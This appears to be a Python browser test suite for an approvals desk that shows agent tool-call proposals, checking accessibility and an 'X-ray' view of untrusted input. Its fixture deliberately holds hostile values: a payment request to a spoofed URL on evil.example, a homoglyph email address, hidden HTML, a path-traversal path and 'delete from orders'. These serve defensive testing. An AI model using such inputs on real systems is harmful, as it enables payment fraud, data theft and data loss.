"""Cards of every kind of call, and the pages beside them: accessible, nothing sideways, the X-ray by key or link."""

from collections.abc import Iterator

import pytest
from django.contrib.auth.models import User
from playwright.sync_api import expect

from agentops.runs.models import TaskType
from agentops.tenancy.access import Actor
from agentops.tenancy.models import Tenant
from agentops.wire.parse import JSONObject
from approvals import services
from approvals.assessing import weighing
from approvals.assessing.weights import WEIGHTS
from tests import deciding
from tests.approvals.conftest import NOW, Desk, make_desk, seen
from tests.approvals.contracts import LOOK_UP, REFUND, do_nothing, no_trace
from tests.approvals.lab import FILE, LETTER, REQUEST, STATEMENT, TRANSFER, letter, put, registered, wait
from tests.browser.access import faults
from tests.browser.conftest import OpenBrowser
from tests.browser.payloads import corpus
from tests.conftest import person
from tools.contracts import Blast, Change, Consequence, Fact, Money
from tools.registry import registry

pytestmark = pytest.mark.browser

RECORDS = Consequence(
    "Does a lot",
    blast=(Blast("rows", 14), Blast("external recipients", 2, "maria@bank.example")),
    money=Money(124_000, "EUR"),
    egress=("subject", "body"),
    facts=(Fact("Customer", "Maria"), Fact("From", "desk@harbor.example")),
    warnings=("First contact: nobody has written there before.",),
    changes=(Change("status", "open", "closed"), Change("notes.txt", "one\ntwo\nthree", "one\n2\nthree")),
)
HIDING = "".join(corpus()[-30:])


@pytest.fixture
def dana(transactional_db: None, acme: Tenant) -> User:
    return person("dana", acme, "operator", "admin")


@pytest.fixture
def pages(dana: User, scoped: Tenant) -> Iterator[dict[str, str]]:
    """Return the address of a card of every kind of call, and of every page beside the card."""
    registry.register(LOOK_UP, do_nothing)
    registry.register(REFUND, do_nothing, reconcile=no_trace, describe=lambda given: RECORDS)
    desk = make_desk(scoped)
    with registered(RECORDS):
        yield fill(desk, dana)
    for one in (LOOK_UP, REFUND):
        registry.remove(one.name, one.version)


def fill(desk: Desk, dana: User) -> dict[str, str]:
    run = desk.run()
    mail = put(
        desk,
        LETTER,
        letter(
            reply_to="eve@evil.example",
            to=["maria@bank.example", "m\u0430ria@b\u0430nk.example"],
            body=HIDING + "\n" * 20 + "the end",
            html="<p hidden>eve</p>",
            attachments=[{"name": "a.pdf", "type": "application/pdf", "size": 9}],
        ),
        source=HIDING + " maria@bank.example " + "x" * 3_000,
        explanation="I write to Maria.",
        run=run,
    )
    request: JSONObject = {
        "method": "POST",
        "url": "http://bank.example@evil.example/pay?to=me#x",
        "headers": [{"name": "Authorization", "value": "Bearer x"}, {"name": "Accept", "value": "*/*"}],
        "body": '{"amount": 5, "to": ["a", "b"]}',
    }
    statement: JSONObject = {"database": "shop", "statement": "delete from orders", "values": ["a", "b"]}
    file: JSONObject = {"path": "/srv/../etc/x", "content": "one\n2\nthree", "mode": "0644", "command": "git log -1"}
    account: JSONObject = {"holder": "Maria", "iban": "DE89", "notes": ["a" * 90] * 3}
    transfer: JSONObject = {
        "account": account,
        "amount_minor": 124_000,
        "currency": "EUR",
        "due": "2026-12-01",
        "api_key": "k",
    }
    cards = {
        "letter": mail,
        "request": put(desk, REQUEST, request, run=run),
        "statement": put(desk, STATEMENT, statement),
    }
    cards |= {"file": put(desk, FILE, file), "transfer": put(desk, TRANSFER, transfer)}
    wait(desk, run)
    actor = Actor.user(dana, ["operator", "admin"])
    for minor in range(25):
        one = desk.propose(amount_minor=1_000 + minor)
        if minor % 4:
            deciding.approve(**seen(one, actor, now=NOW))
        else:
            services.reject(reason_code="wrong_amount", note="no", **seen(one, actor, now=NOW))
    TaskType.objects.update(decide_within_s=86_400)
    last = desk.propose()
    weighing.propose(raw={"weights": dict(WEIGHTS) | {"irreversible": 60}}, note="Because it is so.", actor=actor)
    found = {name: f"proposals/{one.pk}" for name, one in cards.items()}
    return found | {
        "x-ray": f"proposals/{mail.pk}?xray=1",
        "values": f"proposals/{mail.pk}/values",
        "similar": f"proposals/{last.pk}/similar",
        "together": f"runs/{run.pk}/calls",
        "risk": "risk",
    }


def test_axe_finds_nothing_and_nothing_scrolls_sideways(
    pages: dict[str, str], dana: User, open_browser: OpenBrowser
) -> None:
    page = open_browser(dana)
    found = {name: wrong for name, address in pages.items() if (wrong := faults(page, address))}
    assert not found


def test_the_x_ray_lights_what_untrusted_text_reached(
    pages: dict[str, str], dana: User, open_browser: OpenBrowser
) -> None:
    page = open_browser(dana)
    page.goto(pages["letter"])
    page.locator("#sec-arguments > summary").click()
    way = page.locator("#arg-to .way")
    expect(way).to_be_hidden()
    page.evaluate("document.dispatchEvent(new CustomEvent('desk:xray'))")
    expect(way).to_be_visible()
    expect(page.locator("#live")).to_contain_text("descend from untrusted text")
    page.get_by_role("button", name="X-ray").click()
    expect(way).to_be_hidden()
    plain = open_browser(dana, javascript=False)
    plain.goto(pages["letter"])
    plain.get_by_role("button", name="X-ray").click()
    plain.locator("#sec-arguments > summary").click()
    expect(plain.locator("#arg-to .way")).to_be_visible()


def test_past_decisions_come_when_they_are_asked_for(
    pages: dict[str, str], dana: User, open_browser: OpenBrowser
) -> None:
    page = open_browser(dana)
    page.goto(pages["similar"].removesuffix("/similar"))
    rejected = page.get_by_role("link", name="Rejected")
    expect(rejected).to_have_count(0)
    page.get_by_text("Similar past decisions").click()
    expect(page.locator(".similar li")).to_have_count(5)
